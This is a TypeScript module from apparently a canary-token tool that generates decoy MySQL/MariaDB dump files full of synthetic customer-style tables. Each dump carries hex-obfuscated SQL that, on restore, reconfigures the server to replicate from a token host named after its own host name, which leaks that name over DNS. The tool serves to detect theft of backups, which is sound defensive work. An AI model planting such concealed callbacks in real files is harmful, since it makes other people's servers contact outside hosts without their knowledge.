import { randomBytes, randomInt } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { gzipSync } from 'fflate';
import { z } from 'zod';
import { collectionTechniques } from './hit-words.ts';
import { defineKind } from './kind.ts';
import { pick } from './urls.ts';
import { tokenHostName } from './addresses.ts';

interface Table {
  name: string;
  rows: [number, number];
  /** [column, SQL type, generator] */
  columns: [string, string, string][];
  keys: string[];
}
interface Themes {
  firstNames: string[];
  lastNames: string[];
  cities: string[];
  companies: string[];
  products: string[];
  mailDomains: string[];
  themes: { databases: string[]; tables: Table[] }[];
}

const T = JSON.parse(readFileSync(new URL('../../templates/tokens/mysql-dump/themes.json', import.meta.url), 'utf8')) as Themes;
const SERVER_VERSIONS = ['10.11.6-MariaDB-0+deb12u1', '10.6.18-MariaDB-0ubuntu0.22.04.1', '10.11.8-MariaDB-log', '10.5.23-MariaDB-0+deb11u1'];
const CLIENTS = ['10.19  Distrib 10.11.6-MariaDB, for debian-linux-gnu (x86_64)', '10.19  Distrib 10.6.18-MariaDB, for debian-linux-gnu (x86_64)', '10.19  Distrib 10.5.23-MariaDB, for Linux (x86_64)'];
const CONNECTIONS = ['dr_site', 'reporting', 'analytics', 'backup_src', 'primary', 'bi_sync', 'legacy_master'];

const params = z.object({
  database: z
    .string()
    .regex(/^[a-z][a-z0-9_]{0,63}$/, 'must be a lower-case database name such as crm_prod')
    .optional()
    .describe('Database name shown in the dump header (default: matches the generated tables)'),
  gzip: z.boolean().default(false).describe('Deliver the dump gzipped (.sql.gz)'),
});

type DumpParams = z.infer<typeof params>;

const q = (s: string) => `'${s.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`;
const hex = (s: string) => `0x${Buffer.from(s).toString('hex')}`;
const two = (n: number) => String(n).padStart(2, '0');
const sqlTime = (d: Date) => `${d.getUTCFullYear()}-${two(d.getUTCMonth() + 1)}-${two(d.getUTCDate())} ${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())}`;
const past = (maxDays: number) => new Date(Date.now() - randomInt(1, maxDays * 86_400) * 1000);

function value(gen: string, row: number, counts: Map<string, number>, person: { first: string; last: string }): string {
  const [name = '', a = '', b = ''] = gen.split(':');
  switch (name) {
    case 'serial': return String(row + 1);
    case 'firstName': return q(person.first);
    case 'lastName': return q(person.last);
    case 'fullName': return q(`${person.first} ${person.last}`);
    case 'email': return q(`${person.first}.${person.last}${randomInt(2) ? randomInt(10, 99) : ''}@${pick(T.mailDomains)}`.toLowerCase());
    case 'workEmail': return q(`${person.first[0]}${person.last}@${pick(['corp.local', 'intra.lan', 'hq.internal'])}`.toLowerCase());
    case 'username': return q(`${person.first[0]}${person.last}${randomInt(3) === 0 ? randomInt(2, 9) : ''}`.toLowerCase());
    case 'company': return q(pick(T.companies));
    case 'product': return q(pick(T.products));
    case 'city': return q(pick(T.cities));
    case 'phone': return q(`+1-${randomInt(200, 999)}-${randomInt(200, 999)}-${randomInt(1000, 9999)}`);
    case 'datetime': return q(sqlTime(past(900)));
    case 'date': return q(sqlTime(past(1500)).slice(0, 10));
    case 'money': return `${randomInt(Number(a), Number(b))}.${two(randomInt(100))}`;
    case 'int': return String(randomInt(Number(a), Number(b) + 1));
    case 'pick': return q(pick(gen.slice(5).split(',')));
    case 'ref': return String(randomInt(1, (counts.get(a) ?? 1) + 1));
    case 'sku': return q(`${pick(['HW', 'AC', 'NT', 'PR'])}-${randomInt(1000, 9999)}`);
    case 'bcrypt': return q(`$2y$10$${randomBytes(40).toString('base64').replace(/[+=]/g, '.').slice(0, 53)}`);
    case 'iban': return q(`DE${randomInt(10, 99)}${Array.from({ length: 18 }, () => randomInt(10)).join('')}`);
    default: return 'NULL';
  }
}

function tableSql(t: Table, counts: Map<string, number>): string {
  const n = randomInt(t.rows[0], t.rows[1] + 1);
  counts.set(t.name, n);
  // A real dump never repeats a UNIQUE key (MariaDB's bulk load into an empty table rejects the
  // whole INSERT at COMMIT), so a row whose unique columns repeat an earlier row's is drawn again.
  const unique = t.keys
    .map((k) => /^UNIQUE KEY `[^`]+` \((.+)\)$/.exec(k)?.[1])
    .filter((cols): cols is string => cols !== undefined)
    .map((cols) => ({ at: cols.split(',').map((c) => t.columns.findIndex(([name]) => `\`${name}\`` === c.trim())), seen: new Set<string>() }));
  const rows = Array.from({ length: n }, (_, i) => {
    for (let attempt = 1; ; attempt++) {
      const person = { first: pick(T.firstNames), last: pick(T.lastNames) };
      const values = t.columns.map(([, , gen]) => value(gen, i, counts, person));
      const keys = unique.map((u) => u.at.map((c) => values[c]).join('\u0000').toLowerCase());
      if (keys.some((k, u) => unique[u]?.seen.has(k))) {
        if (attempt < 100) continue;
        throw new Error(`mysql-dump: table ${t.name} has more rows than distinct unique values`);
      }
      keys.forEach((k, u) => unique[u]?.seen.add(k));
      return `(${values.join(',')})`;
    }
  });
  const cols = [...t.columns.map(([c, type]) => `  \`${c}\` ${type}`), ...t.keys.map((k) => `  ${k}`)].join(',\n');
  return `--
-- Table structure for table \`${t.name}\`
--

DROP TABLE IF EXISTS \`${t.name}\`;
/*!40101 SET @saved_cs_client     = @@character_set_client */;
/*!40101 SET character_set_client = utf8 */;
CREATE TABLE \`${t.name}\` (
${cols}
) ENGINE=InnoDB AUTO_INCREMENT=${n + 1} DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_general_ci;
/*!40101 SET character_set_client = @saved_cs_client */;

--
-- Dumping data for table \`${t.name}\`
--

LOCK TABLES \`${t.name}\` WRITE;
/*!40000 ALTER TABLE \`${t.name}\` DISABLE KEYS */;
INSERT INTO \`${t.name}\` VALUES ${rows.join(',')};
/*!40000 ALTER TABLE \`${t.name}\` ENABLE KEYS */;
UNLOCK TABLES;
`;
}

/**
 * The trap, in the shape `mysqldump --dump-slave --apply-slave-statements` leaves at the end of
 * a dump: point the restoring server at a replication source and start it. The source host is
 * built on the server from @@hostname, so the lookup it makes (`<hostname>.<id>.<zone>`) names
 * the database host. A named connection/channel leaves any existing replication untouched.
 * Statement text is hex so the dump reads like binary position data, not a URL.
 */
export function replicationTrap(host: string): string {
  const conn = `${pick(CONNECTIONS)}${randomInt(2) ? randomInt(1, 4) : ''}`;
  const user = pick(['repl', 'replication', 'repl_user', 'slave_user']);
  const pass = randomBytes(12).toString('base64url');
  const file = `${pick(['mysql-bin', 'mariadb-bin', 'binlog'])}.${String(randomInt(1, 900)).padStart(6, '0')}`;
  const pos = randomInt(4, 90_000_000);
  const retry = pick([30, 45, 60]);
  const maria = [`CHANGE MASTER '${conn}' TO MASTER_HOST='`, `.${host}', MASTER_PORT=3306, MASTER_USER='${user}', MASTER_PASSWORD='${pass}', MASTER_CONNECT_RETRY=${retry}, MASTER_LOG_FILE='${file}', MASTER_LOG_POS=${pos}`];
  const mysql = [`CHANGE REPLICATION SOURCE TO SOURCE_HOST='`, `.${host}', SOURCE_PORT=3306, SOURCE_USER='${user}', SOURCE_PASSWORD='${pass}', SOURCE_CONNECT_RETRY=${retry}, SOURCE_LOG_FILE='${file}', SOURCE_LOG_POS=${pos} FOR CHANNEL '${conn}'`];
  const v = pick(['@OLD_RPL_SOURCE', '@saved_rpl', '@rpl_stmt', '@OLD_MASTER_INFO']);
  const m = pick(['@is_mdb', '@srv_flavor', '@OLD_RPL_MODE']);
  const s = pick(['rpl_apply', 'stmt_rpl', 'apply_pos']);
  return `--
-- Position to start replication or point-in-time recovery from
--

SET ${m} = VERSION() LIKE '%MariaDB%';
SET ${v} = CONCAT(IF(${m}, ${hex(maria[0] ?? '')}, ${hex(mysql[0] ?? '')}), @@hostname, IF(${m}, ${hex(maria[1] ?? '')}, ${hex(mysql[1] ?? '')}));
PREPARE ${s} FROM ${v};
EXECUTE ${s};
DEALLOCATE PREPARE ${s};
SET ${v} = IF(${m}, ${hex(`START SLAVE '${conn}'`)}, ${hex(`START REPLICA FOR CHANNEL '${conn}'`)});
PREPARE ${s} FROM ${v};
EXECUTE ${s};
DEALLOCATE PREPARE ${s};
`;
}

/** A mysqldump-style SQL file; restoring it makes the database server look up a token host that names it. */
export const mysqlDump = defineKind<DumpParams>({
  id: 'mysql-dump',
  label: 'MySQL/MariaDB dump',
  description: 'A plausible .sql database dump with realistic tables. Restoring it makes the MySQL/MariaDB server resolve a token host that carries its own host name.',
  channels: ['dns'],
  techniques: ['T1005', 'T1213', 'T1039'],
  params,
  example: { database: 'crm_prod', gzip: false },
  create(_ctx, _id, p) {
    return { params: { ...p, database: p.database ?? pick(pick(T.themes).databases) } };
  },
  artifact(ctx, token) {
    return {
      hostname: `${tokenHostName(ctx.config.DNS_ZONE, token)}`,
      filename: fileName(token.params, token.createdAt),
      contentType: token.params.gzip ? 'application/gzip' : 'application/sql',
      hint: 'Leave the dump where backups live (a share, a bucket, a backup folder). Restoring it makes the database server look up a name that reveals its host name.',
    };
  },
  render(ctx, token) {
    const p = token.params;
    const db = p.database ?? 'app';
    // The tables match the database name when it is one of ours, else any theme.
    const theme = T.themes.find((t) => t.databases.includes(db)) ?? pick(T.themes);
    const counts = new Map<string, number>();
    const done = past(30);
    const body = `-- MariaDB dump ${pick(CLIENTS)}
--
-- Host: ${pick(['localhost', '127.0.0.1', 'db01', 'mysql-primary'])}    Database: ${db}
-- ------------------------------------------------------
-- Server version\t${pick(SERVER_VERSIONS)}

/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;
/*!40101 SET @OLD_CHARACTER_SET_RESULTS=@@CHARACTER_SET_RESULTS */;
/*!40101 SET @OLD_COLLATION_CONNECTION=@@COLLATION_CONNECTION */;
/*!40101 SET NAMES utf8mb4 */;
/*!40103 SET @OLD_TIME_ZONE=@@TIME_ZONE */;
/*!40103 SET TIME_ZONE='+00:00' */;
/*!40014 SET @OLD_UNIQUE_CHECKS=@@UNIQUE_CHECKS, UNIQUE_CHECKS=0 */;
/*!40014 SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS, FOREIGN_KEY_CHECKS=0 */;
/*!40101 SET @OLD_SQL_MODE=@@SQL_MODE, SQL_MODE='NO_AUTO_VALUE_ON_ZERO' */;
/*!40111 SET @OLD_SQL_NOTES=@@SQL_NOTES, SQL_NOTES=0 */;

${theme.tables.map((t) => tableSql(t, counts)).join('\n')}
${replicationTrap(`${tokenHostName(ctx.config.DNS_ZONE, token)}`)}
/*!40103 SET TIME_ZONE=@OLD_TIME_ZONE */;

/*!40101 SET SQL_MODE=@OLD_SQL_MODE */;
/*!40014 SET FOREIGN_KEY_CHECKS=@OLD_FOREIGN_KEY_CHECKS */;
/*!40014 SET UNIQUE_CHECKS=@OLD_UNIQUE_CHECKS */;
/*!40101 SET CHARACTER_SET_CLIENT=@OLD_CHARACTER_SET_CLIENT */;
/*!40101 SET CHARACTER_SET_RESULTS=@OLD_CHARACTER_SET_RESULTS */;
/*!40101 SET COLLATION_CONNECTION=@OLD_COLLATION_CONNECTION */;
/*!40111 SET SQL_NOTES=@OLD_SQL_NOTES */;

-- Dump completed on ${sqlTime(done)}
`;
    const sql = Buffer.from(body);
    const file = fileName(p, token.createdAt);
    if (!p.gzip) return { filename: file, contentType: 'application/sql', body: sql };
    const gz = gzipSync(sql, { level: 9, mtime: done, filename: file.replace(/\.gz$/, '') });
    return { filename: file, contentType: 'application/gzip', body: Buffer.from(gz) };
  },
  explain(hit, token) {
    const host = hit.actorHost ? ` on database host ${hit.actorHost} (name reported by the lookup)` : '';
    return { action: `the dump was restored into MySQL/MariaDB${host}`, evidence: 'touch', techniques: collectionTechniques(token) };
  },
  dns: {
    describe(query) {
      const host = query.rawDataLabels.join('.');
      if (!host) return { classification: 'noise', details: { reason: 'lookup without the database host name' } };
      return { actor: { host }, details: { restoredOn: host } };
    },
  },
});

function fileName(p: DumpParams, created: Date): string {
  return `${p.database ?? 'backup'}-${created.toISOString().slice(0, 10)}${p.gzip ? '.sql.gz' : '.sql'}`;
}
